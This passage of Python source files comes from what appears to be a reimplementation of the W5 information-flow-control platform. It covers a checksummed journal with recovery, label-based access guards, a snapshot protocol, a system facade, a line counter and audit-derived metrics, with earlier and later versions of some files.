                encoded = {"op": op, "why": str(exc)}
                op = "journal.opaque"
            body = _body(seq, op, encoded)
        self._seq = seq
        raw = body.encode("utf-8")
        line = b'{"crc":"%08x",' % (zlib.crc32(raw) & 0xFFFFFFFF) \
            + raw[1:] + b"\n"
        self._offsets.append(len(self._buf))
        self._buf += line
        self._stats["appends"] += 1
        self._stats["bytes_written"] += len(line)
        return JournalRecord(seq=seq, op=op, data=encoded)

    def reset(self, *, _compaction: bool = True) -> None:
        """Start a fresh epoch (called after a full snapshot is taken:
        everything the journal recorded is now in the base).  Cursors
        minted before the reset go stale — :meth:`tail_from` will
        refuse them rather than alias the restarted sequence."""
        self._buf = bytearray()
        self._seq = 0
        self._offsets = []
        self.epoch += 1
        self._stats["resets"] += 1

    # -- reading -----------------------------------------------------------

    @property
    def seq(self) -> int:
        return self._seq

    @property
    def size_bytes(self) -> int:
        return len(self._buf)

    def needs_compaction(self) -> bool:
        return len(self._buf) > self.compact_threshold

    def raw_bytes(self) -> bytes:
        """The byte image a real deployment would have on disk."""
        return bytes(self._buf)

    # -- tailing (M15: incremental consumers) ------------------------------

    def position(self) -> JournalCursor:
        """The current end-of-log cursor: ``tail_from(position())`` is
        empty until the next append."""
        return JournalCursor(self.journal_id, self.epoch, self._seq)

    def tail_from(self, cursor: Optional[JournalCursor]
                  ) -> Optional[list[JournalRecord]]:
        """Every record appended after ``cursor``, or ``None`` if the
        cursor is stale (different journal instance, an older epoch, or
        a seq this epoch has not reached — any of which means the
        history the cursor points into no longer exists as records and
        the consumer must fall back to a full resync).

        Cost is O(records past the cursor): the per-record offset
        index turns the tail into one byte-slice parse.  Records come
        back with their journaled (JSON-coerced) payloads; consumers
        that need live objects treat them as *pointers* into current
        state, not as the state itself.
        """
        if cursor is None or cursor.journal_id != self.journal_id \
                or cursor.epoch != self.epoch or cursor.seq > self._seq:
            return None
        if cursor.seq == self._seq:
            return []
        records: list[JournalRecord] = []
        start = self._offsets[cursor.seq]
        for line in bytes(self._buf[start:]).splitlines():
            obj = json.loads(line)
            records.append(JournalRecord(seq=obj["seq"], op=obj["op"],
                                         data=obj["data"]))
        return records

    def stats(self) -> dict[str, int]:
        return {**self._stats, "seq": self._seq,
                "size_bytes": len(self._buf),
                "compact_threshold": self.compact_threshold}

    # -- recovery ----------------------------------------------------------

    @staticmethod
    def recover(raw: bytes) -> tuple[list[JournalRecord], ReplayReport]:
        """Parse a (possibly torn) journal image.

        Returns every verified record before the first sign of damage,
        plus a report saying how many tail bytes were dropped and why.
        Damage never raises: a journal is exactly as good as its
        longest verifiable prefix.
        """
        records: list[JournalRecord] = []
        report = ReplayReport()
        offset = 0
        expect = 1
        while offset < len(raw):
            nl = raw.find(b"\n", offset)
            if nl < 0:
                report.truncated_bytes = len(raw) - offset
                report.truncation_reason = "torn record (no newline)"
                break
            line = raw[offset:nl]
            try:
                obj = json.loads(line)
                crc = obj.pop("crc")
                seq, op, data = obj["seq"], obj["op"], obj["data"]
                if not isinstance(seq, int) or not isinstance(op, str) \
                        or not isinstance(data, dict):
                    raise ValueError("bad field types")
            except (ValueError, KeyError, UnicodeDecodeError):
                report.truncated_bytes = len(raw) - offset
                report.truncation_reason = "unparseable record"
                break
            body = b"{" + line[_CRC_PREFIX_LEN:]
            if not line.startswith(b'{"crc":"') or crc != format(
                    zlib.crc32(body) & 0xFFFFFFFF, "08x"):
                report.truncated_bytes = len(raw) - offset
                report.truncation_reason = "checksum mismatch"
                break
            if seq != expect:
                report.truncated_bytes = len(raw) - offset
                report.truncation_reason = (
                    f"sequence gap (expected {expect}, found {seq})")
                break
            if op == "journal.opaque":
                report.opaque_records += 1
            records.append(JournalRecord(seq=seq, op=op, data=data))
            report.records += 1
            expect += 1
            offset = nl + 1
        return records, report
