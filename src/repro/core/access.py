"""Shared access guards for labeled persistent objects.

Files (:mod:`repro.fs`) and database rows (:mod:`repro.db`) enforce
identical read/write rules; both delegate here so storage backends can
never disagree about policy.  The rules themselves live in
:func:`repro.labels.flow.can_read` / :func:`~repro.labels.flow.can_write`
(the single normative definition; see DESIGN.md §5) — this module adds
the subject-object calling convention, the raising variants with
precise diagnostics, and the optional fast path through the kernel's
:class:`~repro.labels.FlowCache`.

Every ``check_*`` takes an optional ``cache``: when given, a cached
*allow* returns immediately, and a *deny* falls through to the uncached
derivation so the exception (which names the offending labels) is
byte-identical to a cache-free run.
"""

from __future__ import annotations

from typing import Optional

from ..kernel import Process
from ..labels import (FlowCache, Label, WriteIntegrityViolation,
                      WriteSecrecyViolation, can_flow_integrity,
                      can_flow_secrecy, can_read, can_write)
from ..labels.errors import IntegrityViolation, SecrecyViolation


def readable(process: Process, slabel: Label, ilabel: Label,
             cache: Optional[FlowCache] = None,
             category: str = "read") -> bool:
    """True iff ``process`` may read an object labeled (slabel, ilabel).

    * secrecy: ``S_obj ⊆ S_p`` extended only by fully-owned tags;
    * integrity: ``I_p − D⁻_p ⊆ I_obj`` (read-down waivable with w-).
    """
    if cache is not None:
        return cache.readable(process, slabel, ilabel, category=category)
    return can_read(slabel, ilabel, process.slabel, process.ilabel,
                    process.caps)


def writable(process: Process, slabel: Label, ilabel: Label,
             cache: Optional[FlowCache] = None,
             category: str = "write") -> bool:
    """True iff ``process`` may write an object labeled (slabel, ilabel).

    * secrecy: ``S_p − D⁻_p ⊆ S_obj`` (write-down waivable with t-);
    * integrity: ``I_obj ⊆ I_p ∪ D⁺_p`` (write privilege claimed with w+).
    """
    if cache is not None:
        return cache.writable(process, slabel, ilabel, category=category)
    return can_write(slabel, ilabel, process.slabel, process.ilabel,
                     process.caps)


def readable_pairs(process: Process,
                   pairs: "list[tuple[Label, Label]]",
                   cache: Optional[FlowCache] = None,
                   category: str = "read"
                   ) -> dict[tuple[Label, Label], bool]:
    """Batch form of :func:`readable`: one verdict per distinct
    ``(slabel, ilabel)`` pair.

    The partitioned storage engine resolves visibility once per
    *partition* through this helper, so a query's label cost scales
    with distinct label pairs rather than rows.  With a cache the whole
    batch rides one epoch-guarded subject entry
    (:meth:`~repro.labels.FlowCache.readable_many`).
    """
    if cache is not None:
        return cache.readable_many(process, pairs, category=category)
    return {key: can_read(key[0], key[1], process.slabel, process.ilabel,
                          process.caps)
            for key in pairs}


def writable_pairs(process: Process,
                   pairs: "list[tuple[Label, Label]]",
                   cache: Optional[FlowCache] = None,
                   category: str = "write"
                   ) -> dict[tuple[Label, Label], bool]:
    """Batch form of :func:`writable` (see :func:`readable_pairs`)."""
    if cache is not None:
        return cache.writable_many(process, pairs, category=category)
    return {key: can_write(key[0], key[1], process.slabel, process.ilabel,
                           process.caps)
            for key in pairs}


def check_read(process: Process, slabel: Label, ilabel: Label,
               what: str, cache: Optional[FlowCache] = None,
               category: str = "read") -> None:
    """Raise the precise violation if ``process`` may not read."""
    if cache is not None and cache.readable(process, slabel, ilabel,
                                            category=category):
        return
    readable_as = process.slabel | process.caps.owned_tags()
    if not can_flow_secrecy(slabel, readable_as):
        raise SecrecyViolation(
            f"{process.name} cannot read {what}: object secrecy "
            f"{slabel!r} exceeds process secrecy {process.slabel!r}")
    if not can_flow_integrity(ilabel, process.ilabel, d_to=process.caps):
        raise IntegrityViolation(
            f"{process.name} requires integrity {process.ilabel!r} "
            f"but {what} only has {ilabel!r}")


def check_write(process: Process, slabel: Label, ilabel: Label,
                what: str, cache: Optional[FlowCache] = None,
                category: str = "write") -> None:
    """Raise the precise violation if ``process`` may not write.

    Write denials raise the :class:`~repro.errors.WriteDenied` family
    (still subclasses of the historical secrecy/integrity violations).
    """
    if cache is not None and cache.writable(process, slabel, ilabel,
                                            category=category):
        return
    if not can_flow_secrecy(process.slabel, slabel, d_from=process.caps):
        raise WriteSecrecyViolation(
            f"{process.name} (secrecy {process.slabel!r}) cannot write "
            f"down into {what} (secrecy {slabel!r})")
    if not can_flow_integrity(process.ilabel, ilabel, d_from=process.caps):
        raise WriteIntegrityViolation(
            f"{process.name} lacks the write privilege for {what}: "
            f"object requires integrity {ilabel!r}")
