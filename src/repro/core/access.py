"""Shared access guards for labeled persistent objects.

Files (:mod:`repro.fs`) and database rows (:mod:`repro.db`) enforce
identical read/write rules; both delegate here so storage backends can
never disagree about policy.  The rules and their soundness argument
(each capability waiver is equivalent to a legal label-change round
trip) are documented in :mod:`repro.fs.filesystem` and DESIGN.md §5.
"""

from __future__ import annotations

from ..kernel import Process
from ..labels import (IntegrityViolation, Label, SecrecyViolation,
                      can_flow_integrity, can_flow_secrecy)


def readable(process: Process, slabel: Label, ilabel: Label) -> bool:
    """True iff ``process`` may read an object labeled (slabel, ilabel).

    * secrecy: ``S_obj ⊆ S_p`` extended only by fully-owned tags;
    * integrity: ``I_p − D⁻_p ⊆ I_obj`` (read-down waivable with w-).
    """
    readable_as = process.slabel | process.caps.owned_tags()
    return (can_flow_secrecy(slabel, readable_as)
            and can_flow_integrity(ilabel, process.ilabel, d_to=process.caps))


def writable(process: Process, slabel: Label, ilabel: Label) -> bool:
    """True iff ``process`` may write an object labeled (slabel, ilabel).

    * secrecy: ``S_p − D⁻_p ⊆ S_obj`` (write-down waivable with t-);
    * integrity: ``I_obj ⊆ I_p ∪ D⁺_p`` (write privilege claimed with w+).
    """
    return (can_flow_secrecy(process.slabel, slabel, d_from=process.caps)
            and can_flow_integrity(process.ilabel, ilabel,
                                   d_from=process.caps))


def check_read(process: Process, slabel: Label, ilabel: Label,
               what: str) -> None:
    """Raise the precise violation if ``process`` may not read."""
    readable_as = process.slabel | process.caps.owned_tags()
    if not can_flow_secrecy(slabel, readable_as):
        raise SecrecyViolation(
            f"{process.name} cannot read {what}: object secrecy "
            f"{slabel!r} exceeds process secrecy {process.slabel!r}")
    if not can_flow_integrity(ilabel, process.ilabel, d_to=process.caps):
        raise IntegrityViolation(
            f"{process.name} requires integrity {process.ilabel!r} "
            f"but {what} only has {ilabel!r}")


def check_write(process: Process, slabel: Label, ilabel: Label,
                what: str) -> None:
    """Raise the precise violation if ``process`` may not write."""
    if not can_flow_secrecy(process.slabel, slabel, d_from=process.caps):
        raise SecrecyViolation(
            f"{process.name} (secrecy {process.slabel!r}) cannot write "
            f"down into {what} (secrecy {slabel!r})")
    if not can_flow_integrity(process.ilabel, ilabel, d_from=process.caps):
        raise IntegrityViolation(
            f"{process.name} lacks the write privilege for {what}: "
            f"object requires integrity {ilabel!r}")
