"""The ``Snapshotable`` protocol: one durable-state contract.

Four subsystems know how to serialize themselves for persistence — the
tag registry, the labeled filesystem, the labeled store, and the whole
provider.  They historically exposed four ad-hoc entry points
(``export_state``, ``snapshot_fs``, ``snapshot_store``,
``snapshot_provider``); those all still exist, but each now also
implements this single protocol, so generic tooling (backup drivers,
tests, the provider's own composite snapshot) can treat "a thing with
durable state" uniformly:

    for part in (provider.kernel.tags, provider.fs, provider.db):
        assert isinstance(part, Snapshotable)
        state[part_name] = part.snapshot()

The contract: ``snapshot()`` returns a JSON-serializable ``dict``
capturing everything durable, suitable for the subsystem's matching
restore entry point (``TagRegistry.import_state``,
``repro.fs.restore_fs``, ``repro.db.restore_store``,
``repro.platform.restore_provider``).
"""

from __future__ import annotations

from typing import Any, Protocol, runtime_checkable

__all__ = ["Snapshotable"]


@runtime_checkable
class Snapshotable(Protocol):
    """Anything whose durable state serializes to a JSON-able dict."""

    def snapshot(self) -> dict[str, Any]:
        """Serialize everything durable (JSON-compatible)."""
        ...
