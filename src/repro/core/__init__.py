"""Core: the W5 meta-application facade and shared access guards.

:class:`~repro.core.system.W5System` is the one-stop assembly most
examples start from; :mod:`repro.core.access` holds the storage access
guards shared by the filesystem and database.
"""

from . import access
from .journal import (Journal, JournalRecord, ReplayReport,
                      decode_payload, encode_payload)
from .metrics import FederationStatsSource, Metrics
from .snapshot import Snapshotable
from .system import W5System

__all__ = ["access", "Journal", "JournalRecord", "ReplayReport",
           "decode_payload", "encode_payload",
           "Metrics", "FederationStatsSource", "Snapshotable", "W5System"]
