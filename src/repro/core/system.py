"""The W5 system facade: one object that assembles the whole platform.

Most library users want "a W5 with the standard apps and a few users",
not twelve constructor calls.  :class:`W5System` wires a provider with
resource policing, installs the catalogs, and offers the high-level
verbs the examples and benchmarks are written in.  Everything it does
is also reachable through the underlying objects — this is sugar, not
a second security layer.
"""

from __future__ import annotations

from typing import Any, Iterable, Mapping, Optional

from ..apps import install_adversarial_apps, install_standard_apps
from ..declassify import Declassifier
from ..net import ExternalClient
from ..platform import Provider, ProviderConfig
from ..platform.config import _UNSET, resolve_config
from ..resources import ResourceManager
from ..search import DependencyGraph, coderank, top_k
from ..workloads import SocialWorld


class W5System:
    """A ready-to-use W5 deployment (single provider).

    Performance/durability switches arrive as one
    :class:`~repro.platform.config.ProviderConfig` (``config=``); the
    individual keyword flags still work but are deprecated.
    """

    def __init__(self, name: str = "w5",
                 quotas: Optional[Mapping[str, float]] = None,
                 quota_overrides: Optional[Mapping[str, Mapping[str, float]]]
                 = None,
                 with_adversaries: bool = False,
                 js_policy: str = "block",
                 fast_request_plane: Any = _UNSET,
                 recycle_processes: Any = _UNSET,
                 partitioned_store: Any = _UNSET,
                 incremental_persistence: Any = _UNSET,
                 journal_compact_bytes: Any = _UNSET,
                 audit_max_events: Optional[int] = None,
                 tracing: bool = False,
                 config: Optional[ProviderConfig] = None,
                 request_plans: Any = _UNSET) -> None:
        config = resolve_config(config, dict(
            fast_request_plane=fast_request_plane,
            recycle_processes=recycle_processes,
            partitioned_store=partitioned_store,
            incremental_persistence=incremental_persistence,
            journal_compact_bytes=journal_compact_bytes,
            request_plans=request_plans), owner="W5System")
        if config.shards > 1:
            # M13: N full provider shards behind one router.  Each
            # shard polices its own resources (shards share nothing);
            # `self.resources` aliases shard 0's manager for
            # introspection compatibility.
            from ..platform.shards import ShardedProvider
            self.provider = ShardedProvider(
                name=name, n_shards=config.shards, config=config,
                engine=config.shard_engine, js_policy=js_policy,
                audit_max_events=audit_max_events, tracing=tracing,
                resources_factory=lambda: ResourceManager(
                    default_quotas=quotas, overrides=quota_overrides,
                    fast=config.batched_charges))
            self.resources = self.provider.shards[0].kernel.resources
        else:
            self.resources = ResourceManager(default_quotas=quotas,
                                             overrides=quota_overrides,
                                             fast=config.batched_charges)
            self.provider = Provider(name=name, resources=self.resources,
                                     js_policy=js_policy,
                                     config=config,
                                     audit_max_events=audit_max_events,
                                     tracing=tracing)
        install_standard_apps(self.provider)
        if with_adversaries:
            install_adversarial_apps(self.provider)
        self._clients: dict[str, ExternalClient] = {}

    # ------------------------------------------------------------------
    # people
    # ------------------------------------------------------------------

    def add_user(self, username: str, password: str = "pw",
                 apps: Iterable[str] = (), friends: Iterable[str] = (),
                 profile: Optional[Mapping[str, str]] = None
                 ) -> ExternalClient:
        """Sign up a user, log in a browser for them, enable apps, and
        grant the stock friends-only declassifier."""
        client = ExternalClient(username, self.provider.transport())
        client.post("/signup", params={"username": username,
                                       "password": password})
        client.login(password)
        for app in apps:
            client.post("/policy/enable", params={"app": app})
        self.provider.grant_builtin_declassifier(
            username, "friends-only", {"friends": list(friends)})
        if profile:
            self.provider.set_profile(username, **dict(profile))
        self._clients[username] = client
        return client

    def client(self, username: str) -> ExternalClient:
        return self._clients[username]

    def anonymous_client(self, name: str = "anonymous") -> ExternalClient:
        return ExternalClient(name, self.provider.transport())

    def befriend(self, a: str, b: str) -> None:
        """Symmetric friendship: app edges + declassifier lists."""
        for x, y in ((a, b), (b, a)):
            self._clients[x].get("/app/social/befriend", friend=y)
            self._grow_friends_policy(x, y)

    def unfriend(self, a: str, b: str) -> None:
        """Sever the declassifier-side friendship both ways (policy
        revocation — fresh exports stop immediately)."""
        for x, y in ((a, b), (b, a)):
            grant = self.provider.declass.grant_for(x, "friends-only")
            if grant is None:
                continue
            friends = grant.declassifier.config.get("friends", frozenset())
            if y in friends:
                self.provider.update_declassifier_config(
                    x, "friends-only", friends=set(friends) - {y})

    def _grow_friends_policy(self, x: str, y: str) -> None:
        grant = self.provider.declass.grant_for(x, "friends-only")
        if grant is not None:
            friends = grant.declassifier.config.get("friends", frozenset())
            if y not in friends:
                self.provider.update_declassifier_config(
                    x, "friends-only", friends=set(friends) | {y})

    # ------------------------------------------------------------------
    # worlds
    # ------------------------------------------------------------------

    def load_world(self, world: SocialWorld,
                   apps: Iterable[str] = ("photo-share", "blog", "social")
                   ) -> None:
        """Populate the platform from a synthetic social world."""
        app_list = list(apps)
        for user in world.users:
            self.add_user(user, apps=app_list,
                          friends=world.friend_list(user),
                          profile=world.profiles.get(user))
        for user in world.users:
            client = self._clients[user]
            for friend in world.friend_list(user):
                client.get("/app/social/befriend", friend=friend)
                # usually a no-op (add_user granted the full list), but
                # worlds edited after construction converge here
                self._grow_friends_policy(user, friend)
            for photo in world.photos.get(user, []):
                client.get("/app/photo-share/upload",
                           filename=photo["filename"],
                           data=photo["bytes"])
            for post in world.posts.get(user, []):
                client.get("/app/blog/post", title=post["title"],
                           body=post["body"])

    # ------------------------------------------------------------------
    # policy sugar
    # ------------------------------------------------------------------

    def grant_declassifier(self, username: str,
                           declassifier: Declassifier) -> None:
        self.provider.grant_declassifier(username, declassifier)

    # ------------------------------------------------------------------
    # observability
    # ------------------------------------------------------------------

    def audit(self):
        return self.provider.kernel.audit

    def trace_report(self):
        """The provider's tracing dump (see ``Provider.trace_report``);
        ``{"tracing": False}`` unless built with ``tracing=True``."""
        return self.provider.trace_report()

    def code_search(self, k: int = 5) -> list[str]:
        """Rank registered modules by CodeRank over declared imports
        plus observed usage (§3.2)."""
        deps = DependencyGraph.from_registry(self.provider.apps,
                                             self.provider.usage_edges)
        return top_k(coderank(deps), k)

    def leak_check(self, *secrets: str) -> dict[str, list[str]]:
        """Which clients ever received each secret (test convenience)."""
        report: dict[str, list[str]] = {}
        for secret in secrets:
            report[secret] = [name for name, c in self._clients.items()
                              if c.ever_received(secret)]
        return report
