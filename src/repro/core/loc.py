"""Code-size measurement for the M3 audit-surface experiment.

``code_loc`` counts *logic* lines: non-blank, non-comment source lines
with docstrings removed (via the AST, so multi-line strings used as
values still count).  Documentation density shouldn't distort the
"declassifiers are smaller than applications" comparison in either
direction.
"""

from __future__ import annotations

import ast
import textwrap


def code_loc(source: str) -> int:
    """Non-blank, non-comment, non-docstring source lines."""
    source = textwrap.dedent(source)
    doc_lines: set[int] = set()
    try:
        tree = ast.parse(source)
    except SyntaxError:
        tree = None
    if tree is not None:
        for node in ast.walk(tree):
            if isinstance(node, (ast.Module, ast.ClassDef,
                                 ast.FunctionDef, ast.AsyncFunctionDef)):
                body = getattr(node, "body", [])
                if body and isinstance(body[0], ast.Expr) and \
                        isinstance(body[0].value, ast.Constant) and \
                        isinstance(body[0].value.value, str):
                    start = body[0].lineno
                    end = body[0].end_lineno or start
                    doc_lines.update(range(start, end + 1))
    count = 0
    for lineno, line in enumerate(source.splitlines(), start=1):
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        if lineno in doc_lines:
            continue
        count += 1
    return count
