"""Metrics: live counters derived from the audit stream.

Benchmarks and operators both want "how many exports were denied this
minute" without scanning the whole audit log.  ``Metrics`` subscribes
to an :class:`~repro.kernel.audit.AuditLog` and keeps running counters
by (category, verdict) and by subject, cheap to read at any time.

It can also observe the kernel's flow cache
(:meth:`attach_flow_cache`): cache hit/miss/invalidation counters ride
along in :meth:`cache_snapshot`, and per-category flow-check latency is
aggregated in :meth:`flow_latency` — this is how EXPERIMENTS.md's
before/after numbers for the fast-path label engine are collected.
Latency aggregation uses :class:`~repro.obs.LatencyHistogram`, so
every category reports p50/p95/p99 estimates alongside the original
count/mean/min/max keys.

Observable *planes* (request plane, data plane, persistence, the
gateway edge) attach through one internal registry — ``attach_foo``
registers the object under a key and ``foo_snapshot`` reads it back,
so adding a plane is two one-liners, not a new field + None-dance.

Purely observational: it never influences a decision, so it sits
outside the trusted base.
"""

from __future__ import annotations

from _thread import get_ident
from collections import Counter
from typing import TYPE_CHECKING, Any, Optional, Protocol, runtime_checkable

from ..errors import CrossShardWrite
from ..kernel.audit import AuditEvent, AuditLog
from ..obs import LatencyHistogram

if TYPE_CHECKING:  # pragma: no cover
    from ..labels.cache import FlowCache
    from ..net.gateway import Gateway
    from ..platform.provider import Provider


@runtime_checkable
class FederationStatsSource(Protocol):
    """What :meth:`Metrics.attach_federation` expects (duck-typed).

    Implemented by :class:`~repro.federation.FederationFabric` and
    :class:`~repro.federation.ProviderLink`.  The contract (documented
    in ``docs/OBSERVABILITY.md`` §"The federation_stats contract"):
    ``federation_stats()`` returns a JSON-serializable dict of
    monotonic counters and gauges.  Link-shaped sources carry at least
    ``link``, ``delta_sync``, ``linked_users`` and ``transfers``, plus
    (when the delta engine runs) envelope counters
    (``envelopes_sent``/``envelopes_deduped``/``bytes_moved``) and
    per-user ``cursor_lag``; fabric-shaped sources carry
    ``providers``/``live``/``links`` totals and a ``per_link`` list of
    link-shaped dicts.
    """

    def federation_stats(self) -> dict[str, Any]: ...


class Metrics:
    """Counter aggregation over an audit log (attach once, read often)."""

    def __init__(self, audit: AuditLog) -> None:
        self._by_category: Counter[tuple[str, bool]] = Counter()
        self._by_subject: Counter[str] = Counter()
        self._denials_by_subject: Counter[str] = Counter()
        #: Attached observables, keyed by plane name ("flow_cache",
        #: "request", "data", "persistence", "gateway", ...).
        self._planes: dict[str, Any] = {}
        self._latency: dict[str, LatencyHistogram] = {}
        #: M13 ownership guard, mirroring ``AuditLog._owner_ident``:
        #: counters bound to a shard worker refuse cross-thread writes.
        self._owner_ident: Optional[int] = None
        # fold in anything already logged, then follow the stream
        for event in audit:
            self._ingest(event)
        audit.subscribe(self._ingest)

    def bind_owner(self, ident: Optional[int] = None) -> None:
        """Bind counter ingestion to one thread (default: the caller).

        Sharded deployments bind each shard's Metrics to the shard's
        worker thread so a misrouted event increments no counter —
        it raises :class:`CrossShardWrite` instead."""
        self._owner_ident = get_ident() if ident is None else ident

    def unbind_owner(self) -> None:
        """Remove the thread binding (shard teardown, tests)."""
        self._owner_ident = None

    def _attach(self, plane: str, obj: Any) -> "Metrics":
        """Register an observable under ``plane``; returns self so
        every ``attach_*`` chains."""
        self._planes[plane] = obj
        return self

    def _ingest(self, event: AuditEvent) -> None:
        owner = self._owner_ident
        if owner is not None and get_ident() != owner:
            raise CrossShardWrite(
                f"metrics ingest of {event.category!r} arrived on thread "
                f"{get_ident()} but these counters are bound to shard "
                f"worker {owner}: a request was misrouted across shards")
        self._by_category[(event.category, event.allowed)] += 1
        self._by_subject[event.subject] += 1
        if not event.allowed:
            self._denials_by_subject[event.subject] += 1

    # -- reads ------------------------------------------------------------

    def count(self, category: str, allowed: Optional[bool] = None) -> int:
        if allowed is None:
            return (self._by_category[(category, True)]
                    + self._by_category[(category, False)])
        return self._by_category[(category, allowed)]

    def denial_rate(self, category: str) -> float:
        total = self.count(category)
        if total == 0:
            return 0.0
        return self.count(category, allowed=False) / total

    def busiest_subjects(self, k: int = 5) -> list[tuple[str, int]]:
        return self._by_subject.most_common(k)

    def top_denied_subjects(self, k: int = 5) -> list[tuple[str, int]]:
        return self._denials_by_subject.most_common(k)

    def snapshot(self) -> dict[str, int]:
        """A flat dict (``category.allow``/``category.deny`` keys)."""
        out: dict[str, int] = {}
        for (category, allowed), n in sorted(self._by_category.items()):
            out[f"{category}.{'allow' if allowed else 'deny'}"] = n
        return out

    def category_counts(self) -> dict[tuple[str, bool], int]:
        """The raw ``(category, allowed) -> count`` counters (a copy).
        The merge input of :class:`~repro.obs.FleetRegistry` (M16)."""
        return dict(self._by_category)

    def latency_histograms(self) -> dict[str, LatencyHistogram]:
        """The per-category latency histograms (the dict is a copy;
        the histograms are live — merge *into* a fresh one, as
        :meth:`FleetRegistry.merged_latency` does)."""
        return dict(self._latency)

    # -- one-call attachment ----------------------------------------------

    def attach(self, provider: "Provider") -> "Metrics":
        """Attach every observable plane of ``provider`` in one call:
        the kernel flow cache, the request plane (cap index, authority
        memo, process pool, plan cache), the data plane, the durability
        plane and the gateway edge.  The per-plane ``attach_*`` methods
        remain for deployments observing planes selectively (or planes
        from *different* providers), but one provider, fully observed,
        is just ``Metrics(p.kernel.audit).attach(p)``.

        Federation objects (a ``FederationFabric`` or a single
        ``ProviderLink`` — anything exposing ``federation_stats``)
        attach here too, routed to :meth:`attach_federation`."""
        if hasattr(provider, "federation_stats"):
            return self.attach_federation(provider)
        self.attach_flow_cache(provider.kernel.flow_cache)
        self.attach_request_plane(provider)
        self.attach_data_plane(provider)
        self.attach_persistence(provider)
        self.attach_gateway(provider.gateway)
        return self

    # -- flow-cache observation -------------------------------------------

    def attach_flow_cache(self, cache: "FlowCache") -> "Metrics":
        """Start observing ``cache``: its counters become readable via
        :meth:`cache_snapshot` and every consumer-facing flow check is
        timed into :meth:`flow_latency` (per category: ipc, fs.read,
        fs.write, db.read, db.write, net.export, ...).  Returns self
        for chaining: ``Metrics(k.audit).attach_flow_cache(k.flow_cache)``.
        """
        cache.observer = self._observe_latency
        return self._attach("flow_cache", cache)

    def _observe_latency(self, category: str, seconds: float) -> None:
        stat = self._latency.get(category)
        if stat is None:
            stat = self._latency[category] = LatencyHistogram()
        stat.add(seconds)

    def cache_snapshot(self) -> dict[str, Any]:
        """The attached flow cache's hit/miss/invalidation counters
        (empty dict if no cache is attached)."""
        cache = self._planes.get("flow_cache")
        if cache is None:
            return {}
        return cache.stats()

    def cache_hit_rate(self) -> float:
        cache = self._planes.get("flow_cache")
        if cache is None:
            return 0.0
        return cache.hit_rate()

    # -- request-plane observation ----------------------------------------

    def attach_request_plane(self, provider: "Provider") -> "Metrics":
        """Start observing a provider's request-plane caches: the
        launch-capability index, the export-authority memo, and the
        process pool.  Returns self for chaining, mirroring
        :meth:`attach_flow_cache`."""
        return self._attach("request", provider)

    def request_plane_snapshot(self) -> dict[str, Any]:
        """Hit/miss/invalidation counters for every request-plane
        cache (empty dict if no provider is attached)."""
        provider = self._planes.get("request")
        if provider is None:
            return {}
        return {
            "launch_caps": provider.capindex.stats(),
            "authority": provider.declass.authority_stats(),
            "pool": provider.kernel.pool.stats(),
            "plans": provider.plans.stats(),
            "audit_dropped": provider.kernel.audit.dropped,
        }

    # -- data-plane observation --------------------------------------------

    def attach_data_plane(self, provider: "Provider") -> "Metrics":
        """Start observing a provider's data-plane engines: the
        partitioned store's partition hit/skip counters and the
        filesystem's walk-pruning counters.  Returns self for chaining,
        mirroring :meth:`attach_request_plane`."""
        return self._attach("data", provider)

    def data_plane_snapshot(self) -> dict[str, Any]:
        """Partition/pruning counters for the attached provider's
        store and filesystem (empty dict if none attached)."""
        provider = self._planes.get("data")
        if provider is None:
            return {}
        return {"db": provider.db.stats(), "fs": provider.fs.stats()}

    # -- durability observation --------------------------------------------

    def attach_persistence(self, provider: "Provider") -> "Metrics":
        """Start observing a provider's durability plane: journal
        appends and bytes, compactions, replayed records, torn-tail
        truncations.  Returns self for chaining, mirroring
        :meth:`attach_request_plane` / :meth:`attach_data_plane`."""
        return self._attach("persistence", provider)

    def persistence_snapshot(self) -> dict[str, Any]:
        """The attached provider's journal/compaction/replay counters
        (empty dict if none attached; ``incremental_persistence: False``
        when the provider runs the naive full-snapshot baseline)."""
        provider = self._planes.get("persistence")
        if provider is None:
            return {}
        return provider.persistence_stats()

    # -- federation observation --------------------------------------------

    def attach_federation(self,
                          federation: FederationStatsSource) -> "Metrics":
        """Start observing a federation object — a
        :class:`~repro.federation.FederationFabric` or a single
        :class:`~repro.federation.ProviderLink` (duck-typed on
        ``federation_stats``; the shape is pinned by the
        :class:`FederationStatsSource` protocol and documented in
        ``docs/OBSERVABILITY.md``).  Envelope traffic, dedup counters
        and per-user cursor lag become readable via
        :meth:`federation_snapshot`.  Returns self for chaining, like
        every other ``attach_*``."""
        return self._attach("federation", federation)

    def federation_snapshot(self) -> dict[str, Any]:
        """The attached federation plane's counters: envelopes sent and
        deduped, bytes moved, sync-round mix (delta vs full recon) and
        cursor lag (empty dict if none attached)."""
        federation = self._planes.get("federation")
        if federation is None:
            return {}
        return federation.federation_stats()

    # -- gateway-edge observation ------------------------------------------

    def attach_gateway(self, gateway: "Gateway") -> "Metrics":
        """Start observing the perimeter's edge counters: exports
        allowed/denied and rate-limited rejections.  Returns self for
        chaining, like every other ``attach_*``."""
        return self._attach("gateway", gateway)

    def gateway_snapshot(self) -> dict[str, Any]:
        """The attached gateway's edge counters (empty dict if none
        attached)."""
        gateway = self._planes.get("gateway")
        if gateway is None:
            return {}
        return {
            "exports_allowed": gateway.exports_allowed,
            "exports_denied": gateway.exports_denied,
            "rate_limited": gateway.rate_limited,
        }

    def flow_latency(self, category: Optional[str] = None) -> dict[str, Any]:
        """Aggregated flow-check latency.

        With ``category`` the stats for that category alone; without,
        a mapping of every observed category to its stats.  Each stats
        dict carries the historical keys (count, total_s, mean_us,
        min_us, max_us) plus histogram-estimated p50_us/p95_us/p99_us.
        """
        if category is not None:
            stat = self._latency.get(category)
            return stat.as_dict() if stat is not None else {}
        return {cat: stat.as_dict()
                for cat, stat in sorted(self._latency.items())}
