"""Metrics: live counters derived from the audit stream.

Benchmarks and operators both want "how many exports were denied this
minute" without scanning the whole audit log.  ``Metrics`` subscribes
to an :class:`~repro.kernel.audit.AuditLog` and keeps running counters
by (category, verdict) and by subject, cheap to read at any time.

Purely observational: it never influences a decision, so it sits
outside the trusted base.
"""

from __future__ import annotations

from collections import Counter
from typing import Optional

from ..kernel.audit import AuditEvent, AuditLog


class Metrics:
    """Counter aggregation over an audit log (attach once, read often)."""

    def __init__(self, audit: AuditLog) -> None:
        self._by_category: Counter[tuple[str, bool]] = Counter()
        self._by_subject: Counter[str] = Counter()
        self._denials_by_subject: Counter[str] = Counter()
        # fold in anything already logged, then follow the stream
        for event in audit:
            self._ingest(event)
        audit.subscribe(self._ingest)

